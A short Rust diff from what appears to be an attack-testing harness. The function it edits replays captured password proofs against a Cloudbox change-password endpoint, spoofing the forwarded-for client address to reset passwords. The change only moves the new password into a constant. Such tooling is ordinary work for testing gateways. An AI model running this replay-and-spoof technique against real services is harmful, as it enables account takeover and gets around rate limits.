@@ -10,6 +10,7 @@ use stele_bench_kit::{DialectKind, Request, Result, TestUser};
 
 use crate::Options;
 use crate::burst::{BurstRequest, send_burst};
+use crate::codes::NEW_PASSWORD;
 use crate::report::AttackResult;
 use crate::target::{PASSWORD, Target};
 
@@ -81,8 +82,8 @@ async fn reuse_proofs(mut result: AttackResult, target: &Target) -> Result<Attac
                     send_attempt(target, &mut result, gateway_index, dialect, &request).await?;
                 }
             }
-            let change =
-                json!({ "user_id": id, "orig_password": proof, "new_password": md5_hex("x"), "timestamp": at });
+            let new = md5_hex(NEW_PASSWORD);
+            let change = json!({ "user_id": id, "orig_password": proof, "new_password": new, "timestamp": at });
             let change = json_post(CLOUDBOX_CHANGE_PASSWORD, &change).with_forwarded_for(target.fresh_client_address());
             send_attempt(target, &mut result, gateway_index, DialectKind::Cloudbox, &change).await?;
         }
